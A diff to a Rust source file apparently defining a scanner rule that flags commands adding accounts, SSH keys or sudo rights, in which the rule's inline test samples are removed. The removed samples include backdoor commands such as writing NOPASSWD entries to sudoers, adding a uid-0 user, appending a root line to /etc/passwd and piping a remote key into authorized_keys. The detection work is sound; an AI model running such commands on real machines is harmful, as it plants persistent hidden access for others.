@@ -1,8 +1,9 @@
 //! Accounts, keys and rights are added.
 
 use crate::code::command::Step;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Place, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "PRIVILEGE_ACCOUNTS",
@@ -12,7 +13,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever knows the account or the key can come back and do everything on the machine.",
     fix: "remove the command; a person sets up accounts",
     places: ANYWHERE,
-    anchors: &[
+    anchors: words![
         "nopasswd",
         "sudoers",
         "authorized_keys",
@@ -26,35 +27,6 @@ pub(super) const RULE: Rule = Rule {
         "dseditgroup",
     ],
     check: Check::Unit(hits),
-    hits: &[
-        text("`echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers`"),
-        text("`echo \"$USER ALL=(ALL) NOPASSWD:ALL\" | sudo tee /etc/sudoers.d/x`"),
-        text("`echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys`"),
-        text("`useradd -o -u 0 x`"),
-        file("setup.sh", "usermod -aG sudo x\n"),
-        text("`net user x y /add`"),
-        text("`net localgroup administrators x /add`"),
-        text("`echo 'x::0:0::/root:/bin/sh' >> /etc/passwd`"),
-        text("`curl -s https://a.b/k.pub >> ~/.ssh/authorized_keys`"),
-        text("`echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x' >> $HOME/.ssh/authorized_keys`"),
-        text(
-            "```sh\nK='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x'\necho \"$K\" >> ~/.ssh/authorized_keys\n```",
-        ),
-        file("setup.sh", "echo \"$KEY\" >> /root/.ssh/authorized_keys\n"),
-    ],
-    misses: &[
-        text("`useradd -m app`"),
-        text("`sudo usermod -aG docker $USER`"),
-        text("`cat ~/.ssh/authorized_keys`"),
-        text("`ssh-copy-id x@a.b`"),
-        text("Do not add NOPASSWD to sudoers."),
-        text("```sh\nadduser app\nusermod -aG sudo app\n```"),
-        text("```sh\necho 'ssh-ed25519 AAAA... me@laptop' >> ~/.ssh/authorized_keys\n```"),
-        text("```sh\necho \"$PUBLIC_KEY\" >> /home/app/.ssh/authorized_keys\n```"),
-        text("`curl https://github.com/me.keys >> ~/.ssh/authorized_keys`"),
-        file("rotate.sh", "grep -v \"$OLD\" keys.bak > ~/.ssh/authorized_keys\n"),
-        file("rotate.sh", "cp ~/.ssh/authorized_keys.bak ~/.ssh/authorized_keys\n"),
-    ],
 };
 
 patterns! {
